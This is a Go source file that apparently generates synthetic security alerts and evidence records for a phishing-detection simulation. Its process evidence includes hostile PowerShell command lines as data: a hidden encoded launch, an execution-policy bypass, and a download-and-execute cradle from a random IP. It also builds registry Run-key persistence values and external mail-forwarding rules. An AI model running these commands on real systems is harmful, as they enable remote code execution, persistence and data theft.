package phishing

import "strconv"

// backgroundAlert raises one alert that has nothing to do with mail
// links: endpoint, identity, cloud and mail-flow detections, for the
// variety of titles and entity types a real tenant shows.
func (s *sim) backgroundAlert(t int64) { s.raise(t, pickW(s.r, bgChoices)) }

func (s *sim) raise(t int64, bg bgAlert) {
	r := s.r
	u := s.w.anyone(r)
	a := s.newAlert(t+r.int64n(10*minute), bg.kind)
	ev := []*evidence{userEvidence(u, "Impacted")}
	switch bg.shape {
	case shapeSending:
		ev = append(ev, mailboxEvidence(u), ipEvidence(pick(r, s.w.egress), "Related", ""))
	case shapeForwarding:
		cfg := blankEvidence("MailboxConfiguration", "Related")
		cfg.upn, cfg.accountObjectID = u.upn, u.objectID
		target := r.lower(8) + "@" + pick(r, []string{"gmail.com", "outlook.com", "proton.me", "yandex.ru"})
		cfg.additional = jsonText(func(o *obj) {
			o.str("Type", "mailboxConfiguration")
			o.str("MailboxPrimaryAddress", u.upn)
			o.str("ConfigType", "MailForwardingRule")
			o.str("ForwardingTarget", target)
		})
		ev = append(ev, mailboxEvidence(u), cfg)
	case shapeEndpoint, shapeEndpointAV:
		ev = append(ev, machineEvidence(u))
		ev = append(ev, s.processEvidence(u))
		if bg.shape == shapeEndpointAV {
			f := s.fileEvidence(u)
			f.threatFamily = "Trojan:Win32/Wacatac.B!ml"
			ev = append(ev, f)
		} else if r.chance(0.4) {
			ev = append(ev, s.fileEvidence(u))
		}
		if bg.kind.title == "Anomaly detected in ASEP registry" {
			reg := blankEvidence("RegistryValue", "Related")
			reg.deviceID, reg.deviceName = u.deviceID, u.device
			reg.regKey = `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`
			reg.regValueName = pick(r, []string{"OneDriveUpdate", "SecurityHealth", "AdobeSync", "WinUpdater"})
			reg.regValueData = `"C:\Users\` + u.name + `\AppData\Roaming\` + r.lower(6) + `\` + r.lower(7) + `.exe" /background`
			reg.additional = jsonText(func(o *obj) { o.str("Type", "registry-value") })
			ev = append(ev, reg)
		}
		if bg.kind.title == "Suspicious URL clicked" {
			ev = append(ev, urlEvidence("https://"+s.phishDomain()+"/"+r.lower(8), 1))
		}
	case shapeCloudApp:
		ip1, ip2 := pick(r, s.w.egress), r.publicIPv4()
		ev = append(ev, ipEvidence(ip1, "Related", "Source"), ipEvidence(ip2, "Related", "Source"), cloudAppEvidence())
	case shapeSignIn:
		ev = append(ev, ipEvidence(r.publicIPv4(), "Related", "Source"))
		if r.chance(0.5) {
			ev = append(ev, cloudAppEvidence())
		}
	case shapeCloud:
		ev = []*evidence{s.azureEvidence(), ipEvidence(r.publicIPv4(), "Related", "Source")}
	case shapeIdentity:
		ev = append(ev, machineEvidence(s.w.anyone(r)), ipEvidence(u.localIP, "Related", "Source"))
	}
	a.evidence = ev
	s.pushAlert(a)
}

var bgChoices = func() []choice[bgAlert] {
	cs := make([]choice[bgAlert], len(backgroundAlerts))
	for i, b := range backgroundAlerts {
		cs[i] = choice[bgAlert]{b.w, b}
	}
	return cs
}()

func (s *sim) processEvidence(u *user) *evidence {
	r := s.r
	e := blankEvidence("Process", "Related")
	e.deviceID, e.deviceName = u.deviceID, u.device
	e.fileName = "powershell.exe"
	e.folderPath = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	e.sha1 = "6cbce4a295c163791b60fc23d285e6d84f28ee4c"
	e.sha256 = "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"
	e.fileSize = 450560
	e.accountName, e.accountDomain, e.accountSid, e.upn = u.name, "COMPANY", u.sid, u.upn
	e.commandLine = pick(r, []string{
		`powershell.exe -NoP -NonI -W Hidden -Enc ` + r.alnum(48) + "==",
		`powershell.exe -ExecutionPolicy Bypass -File C:\Users\` + u.name + `\Downloads\` + r.lower(6) + `.ps1`,
		`"powershell.exe" -c "IEX (New-Object Net.WebClient).DownloadString('http://` + r.publicIPv4() + `/a')"`,
	})
	e.additional = jsonText(func(o *obj) {
		o.str("Type", "process")
		o.int("ProcessId", int64(r.between(1000, 30000)))
	})
	return e
}

func (s *sim) fileEvidence(u *user) *evidence {
	r := s.r
	e := blankEvidence("File", "Impacted")
	e.deviceID, e.deviceName = u.deviceID, u.device
	e.fileName = pick(r, fileNames) + "_" + r.digits(5) + pick(r, []string{".zip", ".iso", ".js", ".html", ".xlsm", ".exe"})
	e.folderPath = `C:\Users\` + u.name + `\Downloads\` + e.fileName
	e.sha1, e.sha256 = r.hexString(40), r.hexString(64)
	e.fileSize = int64(r.between(2_000, 4_000_000))
	e.threatFamily = pick(r, malwareFamilies)
	e.additional = jsonText(func(o *obj) { o.str("Type", "file") })
	return e
}

func cloudAppEvidence() *evidence {
	e := blankEvidence("CloudApplication", "Related")
	e.application, e.applicationID = "Microsoft Exchange Online", 20893
	e.oauthAppID = "00000002-0000-0ff1-ce00-000000000000"
	e.additional = jsonText(func(o *obj) {
		o.str("Type", "cloud-application")
		o.int("AppId", 20893)
		o.str("Name", "Microsoft Exchange Online")
	})
	return e
}

func (s *sim) azureEvidence() *evidence {
	r := s.r
	e := blankEvidence("AzureResource", "Impacted")
	name := pick(r, []string{"vm-web-", "vm-jump-", "vm-sql-", "aks-node-"}) + strconv.Itoa(r.between(1, 20))
	rg := pick(r, []string{"rg-prod", "rg-shared", "rg-dev"})
	e.cloudResource, e.cloudPlatform, e.resourceType = name, "Azure", "Virtual Machine"
	e.subsID = s.w.subscriptionID
	e.resourceID = "/subscriptions/" + s.w.subscriptionID + "/resourceGroups/" + rg + "/providers/Microsoft.Compute/virtualMachines/" + name
	e.additional = jsonText(func(o *obj) {
		o.str("Type", "azure-resource")
		o.str("ResourceId", e.resourceID)
	})
	return e
}
